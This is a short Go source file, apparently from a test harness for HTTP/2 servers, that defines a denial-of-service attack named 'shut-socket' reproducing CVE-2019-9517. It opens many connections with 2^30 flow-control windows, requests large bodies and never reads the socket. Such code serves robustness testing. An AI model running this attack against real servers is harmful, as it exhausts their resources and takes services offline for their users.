package main

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// shutSocket opens all windows of HTTP/2, asks for large bodies, and does not read
// its socket.
var shutSocket = &attack{
	name: "shut-socket", what: "large bodies and 2^30 windows, and a socket that is not read (CVE-2019-9517)", conns: 32, deaf: true,
	settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1 << 30}}, credit: 1 << 30,
	run: func(ctx context.Context, e *enemy) error {
		for range 250 {
			if _, err := e.get("/large"); err != nil {
				return err
			}
		}
		return e.wait(ctx, time.Minute)
	},
}
